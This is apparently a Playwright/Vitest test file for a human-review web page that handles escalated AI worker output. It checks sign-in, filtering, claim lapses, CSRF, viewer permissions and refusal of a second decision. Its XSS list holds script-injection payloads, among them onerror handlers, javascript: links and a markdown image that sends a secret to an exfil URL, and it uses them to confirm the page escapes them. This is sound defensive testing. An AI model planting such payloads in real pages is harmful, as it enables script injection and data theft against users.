import { mkdirSync, mkdtempSync, rmSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type ReviewServer, startReviewServer } from "../../../src/review/web/server.js";
import { chromiumAvailable, launchChromium, MISSING, runBrowserTests } from "../../helpers/chromium.js";
import { cli, ROOT } from "../../helpers/cli.js";
import { query } from "../../helpers/db.js";
import { ESCALATING, setupQueue } from "../setup.js";

/**
 * The review page as a reviewer uses it, in headless Chromium (Debian's package; playwright-core
 * never downloads a browser). Skipped, loudly, where the machine has no Chromium; in CI
 * (CI=true) that is a failure instead.
 */

if (!chromiumAvailable) console.warn(`review page browser tests skipped: ${MISSING}`);

/** Where the screenshots go (reports/ is ignored by git; CI keeps it as an artefact). */
const SCREENSHOTS = path.join(ROOT, "reports/screenshots");
const MINUTE = 60_000;

/** Worker output an attacker controls: every way we know to get a script or a request out of a page. */
const XSS = [
  "<script>window.__pwned = 'script'</script>",
  `<img src=x onerror="window.__pwned='onerror'">`,
  `<svg onload="window.__pwned='svg'"></svg>`,
  `<a href="javascript:window.__pwned='href'">click me</a>`,
  "[click](javascript:alert(1))",
  "![exfil](http://127.0.0.1:9/exfil?secret=ssn-123)",
  `"><iframe src="javascript:alert(1)"></iframe>`,
].join("\n");

describe.skipIf(!runBrowserTests)(
  `the review page in Chromium${chromiumAvailable ? "" : ` (skipped: ${MISSING})`}`,
  () => {
    let browser: Browser;
    let server: ReviewServer;
    let setup: Awaited<ReturnType<typeof setupQueue>>;
    let tokens: { alice: string; bob: string; vera: string };
    let offset = 0;
    let dir: string;

    beforeAll(async () => {
      dir = mkdtempSync(path.join(os.tmpdir(), "crosscheck-review-"));
      setup = await setupQueue(
        [
          { id: "<img src=x onerror=alert(1)>", input: { ...ESCALATING.high, content: XSS } },
          { id: "critical", input: ESCALATING.critical },
          { id: "unsure", input: ESCALATING.unsure },
        ],
        { dir },
      );
      tokens = {
        alice: setup.registry.add("alice", "reviewer"),
        bob: setup.registry.add("bob", "reviewer"),
        vera: setup.registry.add("vera", "viewer"),
      };
      server = await startReviewServer({ db: setup.db, port: 0, clock: () => Date.now() + offset });
      browser = await launchChromium();
      mkdirSync(SCREENSHOTS, { recursive: true });
    }, 60_000);

    afterAll(async () => {
      await browser?.close();
      await server?.close();
      await setup?.close();
      if (dir !== undefined) rmSync(dir, { recursive: true, force: true });
    });

    interface Session {
      context: BrowserContext;
      page: Page;
      requests: string[];
      dialogs: string[];
      errors: string[];
    }

    /** A fresh browser profile signed in with `token`, recording requests, dialogs and page errors. */
    async function signIn(token: string, options: { bypassCSP?: boolean } = {}): Promise<Session> {
      const context = await browser.newContext({
        bypassCSP: options.bypassCSP ?? false,
        viewport: { width: 1280, height: 900 },
      });
      const page = await context.newPage();
      const seen: Session = { context, page, requests: [], dialogs: [], errors: [] };
      page.on("request", (r) => seen.requests.push(r.url()));
      page.on("dialog", (d) => {
        seen.dialogs.push(d.message());
        void d.dismiss();
      });
      page.on("pageerror", (e) => seen.errors.push(e.message));
      await page.goto(`${server.url}/`);
      await page.fill("#token", token);
      await page.click("button[type=submit]");
      return seen;
    }

    const caseId = (task: string) => setup.ids[task] ?? "";
    const XSS_TASK = "<img src=x onerror=alert(1)>";

    it("refuses a wrong token and keeps the visitor on the sign-in page", async () => {
      const { page, context } = await signIn(`${tokens.alice}-wrong`);
      await expect.poll(() => page.locator(".notice.error").textContent()).toMatch(/not valid/);
      expect(new URL(page.url()).pathname).toBe("/login");
      await context.close();
    });

    it("signs in, filters the queue by severity, and shows the untrusted task id as text", async () => {
      const { page, context, dialogs } = await signIn(tokens.alice);
      await expect.poll(() => page.locator("table.queue tbody tr").count()).toBe(3);
      await page.screenshot({ path: path.join(SCREENSHOTS, "review-queue.png"), fullPage: true });
      await page.selectOption("select[name=severity]", "high");
      await page.click("#filters button[type=submit]");
      await expect.poll(() => page.locator("table.queue tbody tr").count()).toBe(2);
      expect(new URL(page.url()).searchParams.get("severity")).toBe("high");
      const rows = await page.locator("table.queue tbody tr td:nth-child(2)").allTextContents();
      expect(rows).toEqual(["critical", XSS_TASK]);
      expect(dialogs).toEqual([]);
      await context.close();
    });

    for (const bypassCSP of [true, false]) {
      it(`shows a case whose worker output holds XSS payloads as inert text${bypassCSP ? " (escaping alone, CSP bypassed)" : ""}`, async () => {
        const seen = await signIn(tokens.alice, { bypassCSP });
        const { page } = seen;
        await page.click(`a[href="/cases/${caseId(XSS_TASK)}"]`);
        await expect.poll(() => page.locator("#output").textContent()).toBe(XSS);
        if (!bypassCSP)
          await page.screenshot({ path: path.join(SCREENSHOTS, "review-case.png"), fullPage: true });
        expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
        expect(await page.locator("main script, main img, main svg, main iframe").count()).toBe(0);
        const hrefs = await page
          .locator("a")
          .evaluateAll((as) => as.map((a) => a.getAttribute("href") ?? ""));
        expect(hrefs.filter((h) => !h.startsWith("/"))).toEqual([]);
        expect(seen.dialogs).toEqual([]);
        expect(seen.errors).toEqual([]);
        expect(seen.requests.filter((r) => !r.startsWith(server.url))).toEqual([]);
        await seen.context.close();
      });
    }

    it("claims, decides, and the paused run finishes with the decision in the audit log", async () => {
      const { page, context } = await signIn(tokens.alice);
      const id = caseId(XSS_TASK);
      await page.goto(`${server.url}/cases/${id}`);
      await page.click("#claim button");
      await page.check("input[name=decision][value=reject]");
      await page.fill("#reason", "the output is an injection attempt");
      await page.click("#decide button[type=submit]");
      // The POST resumes the run before it answers: wait for the page it returns.
      await page.locator(".notice").waitFor({ timeout: 20_000 });
      expect(await page.locator(".notice").textContent()).toMatch(/case ended rejected/);
      expect(await page.locator("#case-status").textContent()).toBe("rejected (by human)");
      expect(await page.locator("#decision").textContent()).toMatch(/reject\s+by alice/);
      expect(query(setup.db, "select status, decided_by from cases where id = ?", id)).toEqual([
        { status: "rejected", decided_by: "human" },
      ]);
      const shown = await cli(["--db", setup.db, "audit", "show", id]);
      expect(shown.code).toBe(0);
      expect(shown.stdout).toMatch(/alice/);
      expect(shown.stdout).toMatch(/the output is an injection attempt/);
      await context.close();
    });

    it("refuses a second decision on a decided case", async () => {
      const { page, context } = await signIn(tokens.bob);
      const id = caseId(XSS_TASK);
      await page.goto(`${server.url}/cases/${id}`);
      expect(await page.locator("#decide").count()).toBe(0);
      const csrf = await page.locator("input[name=csrf]").first().inputValue();
      const origin = { origin: server.url };
      const claim = await context.request.post(`${server.url}/cases/${id}/claim`, {
        form: { csrf },
        headers: origin,
      });
      expect(claim.status()).toBe(409);
      // Bob may give the decided case a second review; its sealed view fields do not let him decide it.
      const viewDigest = await page.locator("#second-review input[name=viewDigest]").inputValue();
      const viewSeal = await page.locator("#second-review input[name=viewSeal]").inputValue();
      const again = await context.request.post(`${server.url}/cases/${id}/decide`, {
        form: { csrf, viewDigest, viewSeal, decision: "accept", reason: "overrule" },
        headers: origin,
      });
      expect(again.status()).toBe(409);
      expect(await again.text()).toMatch(/already decided by alice/);
      await context.close();
    });

    it("refuses a decision once the reviewer's claim has lapsed", async () => {
      const { page, context } = await signIn(tokens.alice);
      const id = caseId("critical");
      await page.goto(`${server.url}/cases/${id}`);
      await page.click("#claim button");
      await page.check("input[name=decision][value=accept]");
      await page.fill("#reason", "fine after all");
      offset += 31 * MINUTE;
      await page.click("#decide button[type=submit]");
      await expect.poll(() => page.locator(".notice.error").textContent()).toMatch(/alice holds no claim/);
      expect(query(setup.db, "select count(*) as n from human_decisions where case_id = ?", id)).toEqual([
        { n: 0 },
      ]);
      await context.close();
    });

    it("refuses a POST without the CSRF token, and shows a viewer no way to decide", async () => {
      const { page, context } = await signIn(tokens.vera);
      const id = caseId("unsure");
      await page.goto(`${server.url}/cases/${id}`);
      expect(await page.locator("#view-only").count()).toBe(1);
      expect(await page.locator("#claim, #decide").count()).toBe(0);
      const noToken = await context.request.post(`${server.url}/cases/${id}/claim`, {
        form: {},
        headers: { origin: server.url },
      });
      expect(noToken.status()).toBe(403);
      const csrf = await page.locator("input[name=csrf]").first().inputValue();
      const asViewer = await context.request.post(`${server.url}/cases/${id}/decide`, {
        form: { csrf, decision: "accept", reason: "I am only a viewer" },
        headers: { origin: server.url },
      });
      expect(asViewer.status()).toBe(403);
      await context.close();
    });
  },
);
